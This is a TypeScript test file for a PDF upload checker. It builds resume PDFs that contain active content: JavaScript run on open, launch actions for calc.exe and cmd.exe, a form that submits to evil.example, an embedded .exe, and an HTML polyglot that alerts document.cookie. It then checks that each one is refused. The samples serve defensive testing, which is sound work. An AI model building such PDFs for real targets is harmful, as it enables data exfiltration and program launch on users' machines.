// The PDF engine's verdicts on hostile and broken uploads, on documents built here: a
// plain resume page (tests/support/pdf.ts), then the same page with each kind of active
// content added with MuPDF itself, encrypted, shifted behind an HTML page, truncated.
import { describe, expect, test } from "bun:test";
import * as mupdf from "mupdf";
import { inspectPdf, MAX_PDF_PAGES } from "../../src/core/pdf-document.ts";
import { buildPdf } from "../support/pdf.ts";

const plain = buildPdf({ text: "Jane Doe - Resume" });

/** The plain page, changed by `edit`, saved again (`options`: MuPDF's save options). */
function variant(edit: (doc: mupdf.PDFDocument) => void, options = ""): Uint8Array {
  const doc = mupdf.Document.openDocument(plain, "application/pdf").asPDF()!;
  edit(doc);
  const bytes = doc.saveToBuffer(options).asUint8Array().slice();
  doc.destroy();
  return bytes;
}

function action(doc: mupdf.PDFDocument, type: string, extra: Record<string, mupdf.PDFObject>): mupdf.PDFObject {
  const dict = doc.newDictionary();
  dict.put("S", doc.newName(type));
  for (const [key, value] of Object.entries(extra)) dict.put(key, value);
  return dict;
}

function linkAnnotation(doc: mupdf.PDFDocument, withAction: mupdf.PDFObject): void {
  const annotation = doc.newDictionary();
  annotation.put("Type", doc.newName("Annot"));
  annotation.put("Subtype", doc.newName("Link"));
  const rect = doc.newArray();
  for (const n of [72, 72, 200, 100]) rect.push(doc.newReal(n));
  annotation.put("Rect", rect);
  annotation.put("A", withAction);
  const annotations = doc.newArray();
  annotations.push(doc.addObject(annotation));
  doc.findPage(0).put("Annots", annotations);
}

describe("accepted", () => {
  test("a plain one-page resume, with its page count", () => {
    expect(inspectPdf(plain)).toEqual({ ok: true, pageCount: 1 });
  });

  test("a multi-page document", () => {
    const three = variant((doc) => {
      doc.insertPage(-1, doc.addPage([0, 0, 612, 792], 0, doc.newDictionary(), ""));
      doc.insertPage(-1, doc.addPage([0, 0, 612, 792], 0, doc.newDictionary(), ""));
    });
    expect(inspectPdf(three)).toEqual({ ok: true, pageCount: 3 });
  });

  test("a plain link to a web page is fine", () => {
    const linked = variant((doc) => linkAnnotation(doc, action(doc, "URI", { URI: doc.newString("https://janedoe.dev") })));
    expect(inspectPdf(linked)).toEqual({ ok: true, pageCount: 1 });
  });
});

describe("refused: active content", () => {
  const cases: [string, (doc: mupdf.PDFDocument) => void, string, string?][] = [
    ["JavaScript run on open", (doc) => doc.getTrailer().get("Root").put("OpenAction", action(doc, "JavaScript", { JS: doc.newString("app.alert(1)") })), "JavaScript"],
    [
      "JavaScript hidden in a compressed object stream",
      (doc) => doc.getTrailer().get("Root").put("OpenAction", doc.addObject(action(doc, "JavaScript", { JS: doc.newString("app.alert(2)") }))),
      "JavaScript",
      "compress,objstms=yes",
    ],
    [
      "JavaScript in the document's name tree",
      (doc) => {
        const names = doc.newDictionary();
        const tree = doc.newDictionary();
        const list = doc.newArray();
        list.push(doc.newString("init"));
        list.push(doc.addObject(action(doc, "JavaScript", { JS: doc.newString("this.print()") })));
        tree.put("Names", list);
        names.put("JavaScript", doc.addObject(tree));
        doc.getTrailer().get("Root").put("Names", names);
      },
      "JavaScript",
    ],
    ["a launch action on a link", (doc) => linkAnnotation(doc, action(doc, "Launch", { F: doc.newString("calc.exe") })), "a launch action (opens another program or file)"],
    ["a launch action run on open", (doc) => doc.getTrailer().get("Root").put("OpenAction", action(doc, "Launch", { F: doc.newString("cmd.exe") })), "a launch action (opens another program or file)"],
    ["a form that submits itself", (doc) => linkAnnotation(doc, action(doc, "SubmitForm", { F: doc.newString("https://evil.example/collect") })), "a form submission action"],
    [
      "an embedded file",
      (doc) => doc.addEmbeddedFile("invoice.exe", "application/octet-stream", new TextEncoder().encode("MZ not really"), new Date(), new Date(), false),
      "an embedded file",
    ],
  ];
  for (const [name, edit, expected, options] of cases) {
    test(name, () => {
      const result = inspectPdf(variant(edit, options));
      expect(result).toMatchObject({ ok: false, refusal: "active-content" });
      expect((result as { found: string[] }).found).toContain(expected);
      expect((result as { reason: string }).reason).toStartWith("The PDF contains ");
    });
  }
});

describe("refused: not a readable, open PDF", () => {
  test("encrypted with a password", () => {
    const encrypted = variant(() => {}, "encrypt=aes-256,user-password=secret,owner-password=owner");
    expect(inspectPdf(encrypted)).toMatchObject({ ok: false, refusal: "encrypted" });
  });

  test("encrypted with an empty user password (opens without asking, still encrypted)", () => {
    const encrypted = variant(() => {}, "encrypt=aes-256,owner-password=owner");
    expect(inspectPdf(encrypted)).toMatchObject({ ok: false, refusal: "encrypted" });
  });

  test("a PDF behind an HTML page (a polyglot a browser would sniff as HTML)", () => {
    const html = new TextEncoder().encode("<html><script>alert(document.cookie)</script></html>\n");
    const polyglot = new Uint8Array(html.length + plain.length);
    polyglot.set(html);
    polyglot.set(plain, html.length);
    expect(inspectPdf(polyglot)).toMatchObject({ ok: false, refusal: "not-pdf" });
  });

  test("HTML, an image, an empty file", () => {
    for (const bytes of [new TextEncoder().encode("<!doctype html><p>hi"), Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10), new Uint8Array()]) {
      expect(inspectPdf(bytes)).toMatchObject({ ok: false, refusal: "not-pdf" });
    }
  });

  test("truncated halfway (only readable after repair)", () => {
    expect(inspectPdf(plain.subarray(0, Math.floor(plain.length * 0.6)))).toMatchObject({ ok: false, refusal: "damaged" });
  });

  test("a header and garbage", () => {
    expect(inspectPdf(new TextEncoder().encode("%PDF-1.7\n" + "garbage ".repeat(100)))).toMatchObject({ ok: false });
  });

  test(`more than ${MAX_PDF_PAGES} pages`, () => {
    const long = variant((doc) => {
      for (let i = 0; i < MAX_PDF_PAGES; i++) doc.insertPage(-1, doc.addPage([0, 0, 612, 792], 0, doc.newDictionary(), ""));
    });
    expect(inspectPdf(long)).toMatchObject({ ok: false, refusal: "too-many-pages" });
  });
});

describe("thumbnail", () => {
  test("the first page as a PNG of the asked width, in the same pass as the checks", () => {
    const inspected = inspectPdf(plain, { firstPageWidthPx: 320 });
    expect(inspected).toMatchObject({ ok: true, pageCount: 1 });
    const png = (inspected as { firstPagePng: Uint8Array }).firstPagePng;
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const width = new DataView(png.buffer, png.byteOffset + 16, 4).getUint32(0);
    const height = new DataView(png.buffer, png.byteOffset + 20, 4).getUint32(0);
    expect(width).toBe(320);
    expect(Math.abs(height - 320 * (792 / 612))).toBeLessThanOrEqual(1);
  });

  test("a refused document is never rendered", () => {
    expect(inspectPdf(new TextEncoder().encode("<html>"), { firstPageWidthPx: 320 })).toMatchObject({ ok: false, refusal: "not-pdf" });
    expect(inspectPdf(plain)).not.toHaveProperty("firstPagePng");
  });
});
